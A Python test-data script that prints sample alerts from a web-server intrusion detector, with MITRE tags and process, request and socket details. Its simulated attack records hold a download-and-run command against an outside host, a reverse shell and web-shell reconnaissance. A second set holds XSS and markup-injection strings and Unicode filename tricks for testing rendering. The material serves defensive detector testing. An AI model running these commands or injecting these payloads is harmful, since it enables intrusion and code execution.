#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
"""samples.py NAME: prints alerts as "shelltrap logger" writes them, one JSON object a line.

attack: an upload form, a web shell, a reverse shell and a dropped program, with everything
that a record may have. hostile: bytes that try to become markup or to mislead a reader.
storm: 20,000 commands of one server. many: several servers, hosts and module instances.
"""
import json
import sys
from datetime import datetime, timedelta, timezone

START = datetime(2026, 11, 21, 14, 2, 11, 123456, timezone.utc)
SEVERITY = {"webserver_sysutil_exec": "medium", "illegitimate_shell": "medium",
            "webserver_interpreter_exec": "high", "webserver_nettool_exec": "high",
            "webserver_exec": "high"}
THREATS = {
    "webserver_shell_exec": [("TA0002", "T1059.004"), ("TA0003", "T1505.003")],
    "webserver_sysutil_exec": [("TA0007", "T1033"), ("TA0007", "T1082")],
    "webserver_nettool_exec": [("TA0011", "T1105")],
    "webserver_dropped_exec": [("TA0003", "T1505.003")],
    "webserver_reverse_shell": [("TA0002", "T1059.004"), ("TA0011", "T1571")],
}
POOL = [(812, "php-fpm8.2"), (810, "php-fpm8.2"), (1, "systemd")]
REQUEST = {
    "certainty": "exact", "client": "203.0.113.5:51332", "clients": ["203.0.113.5:51332"],
    "more": 0, "local": "192.0.2.7:443", "via": [{"pid": 307, "comm": "nginx"}], "thread": 812,
    "method": "POST", "host": "shop.example", "uri": "/upload/x.php?c=id",
    "script": "/var/www/html/upload/x.php", "remote_addr": None, "forwarded_for": None,
    "user_agent": "Mozilla/5.0 (X11; Linux x86_64)", "sources": ["proxy-socket", "fpm-status"],
}


def time_at(seconds):
    return (START + timedelta(seconds=seconds)).strftime("%Y-%m-%dT%H:%M:%S.%f000Z")


def alert(seq, seconds, pid, path, argv, rules, ancestors, **more):
    """An alert as the contract has it; "more" replaces members at the top."""
    name = path.rsplit("/", 1)[-1]
    record = {
        "seq": seq, "instance": "5b1f9c0e77aa01d3", "time": time_at(seconds), "host": "web01",
        "boot_id": "0f6d3a52-7f0f-4b57-9a3c-0c3d1a1f2b34", "rule": rules[0],
        "severity": SEVERITY.get(rules[0], "critical"), "rules": rules, "verdict": "observed",
        "comm": ancestors[0][1] if ancestors else name, "pathname": path, "interpreter": path,
        "stdin_type": "pipe",
        "process": {
            "pid": pid, "tid": pid, "comm": name[:15], "exe": path, "argv": argv,
            "argc": len(argv), "argv_truncated": False, "cwd": "/var/www/html/upload",
            "uid": 33, "gid": 33, "euid": 33, "egid": 33, "user": "www-data",
            "group": "www-data", "euser": "www-data", "egroup": "www-data", "loginuid": None,
            "loginuser": None, "sessionid": None, "pid_ns": 4026531836, "mnt_ns": 4026531841,
            "ns_pid": pid},
        "file": {"path": path, "dev": "254:1", "ino": 1000 + seq, "mode": "0755", "uid": 0,
                 "gid": 0, "user": "root", "group": "root", "sha256": None},
        "server": {"pid": 812, "comm": "php-fpm8.2", "exe": "/usr/sbin/php-fpm8.2",
                   "matched": "comm", "port": None, "started": "2026-11-20T08:00:01Z"},
        "request": None,
        "ancestors": [{"pid": number, "comm": comm} for number, comm in ancestors],
        "stdin": {"type": "pipe"}, "stdout": {"type": "pipe"},
        "cgroup": {"id": 3401, "path": "/system.slice/php8.2-fpm.service"},
        "unit": "php8.2-fpm.service", "container": None,
        "threat": [{"tactic": tactic, "technique": technique}
                   for rule in rules for tactic, technique in THREATS.get(rule, [])],
    }
    record.update(more)
    return record


def attack():
    shell = ["webserver_shell_exec", "illegitimate_shell"]
    first = [(1402, "sh"), *POOL]
    yield alert(42, 0, 1402, "/bin/sh", ["sh", "-c", "id; uname -a"], shell, POOL,
                request=REQUEST)
    yield alert(43, 0.011, 1403, "/usr/bin/id", ["id"], ["webserver_sysutil_exec"], first,
                request=REQUEST)
    yield alert(44, 0.014, 1404, "/usr/bin/uname", ["uname", "-a"], ["webserver_sysutil_exec"],
                first, request=REQUEST)
    second = dict(REQUEST, uri="/upload/x.php?c=curl+-so+/tmp/.k+http://198.51.100.9/k")
    yield alert(45, 21.4, 1417, "/bin/sh",
                ["sh", "-c", "curl -so /tmp/.k http://198.51.100.9/k; chmod +x /tmp/.k; /tmp/.k"],
                shell, POOL, request=second)
    below = [(1417, "sh"), *POOL]
    yield alert(46, 21.42, 1418, "/usr/bin/curl",
                ["curl", "-so", "/tmp/.k", "http://198.51.100.9/k"], ["webserver_nettool_exec"],
                below, request=second)
    yield alert(47, 22.1, 1420, "/tmp/.k", ["/tmp/.k"], ["webserver_dropped_exec"], below,
                file={"path": "/tmp/.k", "dev": "254:1", "ino": 9131, "mode": "0755", "uid": 33,
                      "gid": 33, "user": "www-data", "group": "www-data",
                      "sha256": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"})
    # Its parent has exited, so that it is a child of systemd now.
    connected = {"type": "socket", "family": "inet", "state": "established",
                 "sock_type": "stream", "local": "192.0.2.7:40112", "peer": "198.51.100.9:4444"}
    yield alert(48, 22.3, 1422, "/bin/bash", ["bash", "-i"],
                ["webserver_reverse_shell", "webserver_shell_exec"], [(1420, ".k"), (1, "systemd")],
                stdin=connected, stdout=connected)
    yield {"type": "loss", "seq": 49, "instance": "5b1f9c0e77aa01d3", "time": time_at(30),
           "host": "web01", "boot_id": None, "last": 49, "lost": 2, "why": "out of memory"}
    yield alert(50, 64, 1431, "/usr/bin/sudo", ["sudo", "-l"], ["webserver_sysutil_exec"],
                [(1422, "bash"), (1, "systemd")], verdict="denied")


MARKUP = ["<script>document.title='taken'</script>", "\"><img src=x onerror=alert(1)>",
          "'; --><style>*{display:none}</style>", "</code></pre></body></html>",
          "]]>&lt;b&gt;&#60;i&#62;&quot;", "`` ``` |x| [a](http://evil.example/) @everyone #1",
          "\u202eexe.txt\u202c\u200bgpj", "\x1b[2J\x07\r\n\x00\x7f\u0085", "\\xff\\xfe caf\u00e9 \u2603"]


def hostile():
    for number, text in enumerate(MARKUP):
        yield alert(
            number + 1, number, 2000 + number, "/tmp/" + text, ["sh", "-c", text],
            ["webserver_shell_exec", text], [(812, text), *POOL[1:]], comm=text, host="web01",
            unit=text, request=dict(REQUEST, uri=text, script="/" + text, user_agent=text,
                                    forwarded_for=text, client=text),
            threat=[{"tactic": text, "technique": text}],
            container={"id": text, "runtime": text, "name": text, "image": text},
            stdin={"type": "socket", "peer": text})
    yield {"type": "event", "seq": 90, "instance": "5b1f9c0e77aa01d3", "time": time_at(9),
           "host": "web01", "event": MARKUP[0], "by": {"pid": 1, "comm": MARKUP[1], "uid": 0}}


def storm():
    yield from attack()
    for number in range(20000):
        yield alert(100 + number, 100 + number / 50, 10000 + number, "/bin/sh",
                    ["sh", "-c", f"echo {number}"], ["webserver_shell_exec"], POOL)


def many():
    yield from attack()
    for record in attack():
        yield record | {"host": "web02", "instance": "00000000000000bb"}
    for record in attack():
        yield record | {"instance": "00000000000000aa", "time": record["time"].replace("-21T", "-22T")}
    yield alert(1, 90000, 900, "/usr/sbin/nginx", ["nginx", "-g", "daemon on;"], ["webserver_exec"],
                [(1, "systemd")], server=None, unit="nginx.service")


def main():
    for record in {"attack": attack, "hostile": hostile, "storm": storm, "many": many}[sys.argv[1]]():
        print(json.dumps(record, ensure_ascii=False))


if __name__ == "__main__":
    main()
